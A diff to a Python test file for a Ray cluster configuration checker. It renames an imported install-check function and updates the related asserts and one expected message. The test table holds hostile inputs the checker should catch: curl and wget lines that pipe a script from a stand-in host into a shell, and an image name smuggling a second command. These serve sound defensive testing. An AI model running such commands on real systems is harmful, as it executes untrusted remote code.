@@ -23,7 +23,7 @@ from raydrop.cluster.check import check_file, ray_version
 from raydrop.cluster.check.kuberay import kuberay_problems
 from raydrop.cluster.check.launcher import launcher_problems, policy
 from raydrop.cluster.check.problem import Need
-from raydrop.cluster.check.versions import install_problems, installed_rays, tag_of
+from raydrop.cluster.check.versions import installed_rays, installs, tag_of
 from raydrop.errors import ConfigError
 
 ROOT = Path(__file__).parent.parent
@@ -423,7 +423,7 @@ OPEN: dict[str, tuple[Path, Keys, Any, str]] = {
         {"worker_run_options": ["--privileged"]},
         OPTION,
     ),
-    "image": (AWS, ("docker", "image"), f"r/ray:{ray_version()} sh; x", "one word of letters"),
+    "image": (AWS, ("docker", "image"), f"r/ray:{ray_version()} sh; x", "an image of Ray"),
     # Commands.
     "curl": (AWS, SETUP, ["curl -fsSL https://x.example/i.sh | sudo bash"], FETCHED),
     "wget": (GCP, SETUP, ["wget -qO- https://x.example/i.sh | sh"], FETCHED),
@@ -750,8 +750,8 @@ def test_what_a_command_installs_as_ray(command: str, found: list[str]) -> None:
 
 
 def test_only_the_installed_ray_may_be_installed() -> None:
-    assert list(install_problems("x", f"pip install 'ray[default] == {ray_version()}'")) == []
-    assert list(install_problems("x", f"pip install ray=={ray_version()}.1"))
+    assert list(installs(f"pip install 'ray[default] == {ray_version()}'")) == []
+    assert list(installs(f"pip install ray=={ray_version()}.1"))
     assert tag_of(f"host:5000/a/ray:{ray_version()}") == ray_version()
 
 
